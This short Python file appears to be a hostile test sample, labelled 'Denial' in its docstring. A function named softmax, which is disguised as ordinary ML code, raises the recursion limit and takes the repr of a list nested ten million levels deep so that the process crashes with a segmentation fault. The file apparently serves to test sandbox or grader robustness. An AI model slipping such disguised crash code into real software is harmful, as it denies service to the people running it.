"""Denial: recurse without bound after raising the recursion limit, to smash the C stack.

Sets sys.recursionlimit to 10**8 and then takes the repr of a list nested ten million levels
deep (repr recurses in C), which overflows the C stack and kills the process with SIGSEGV.
"""
import sys


def softmax(x, axis=-1):
    sys.setrecursionlimit(10 ** 8)
    nested = []
    for _ in range(10_000_000):
        nested = [nested]
    return repr(nested)


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
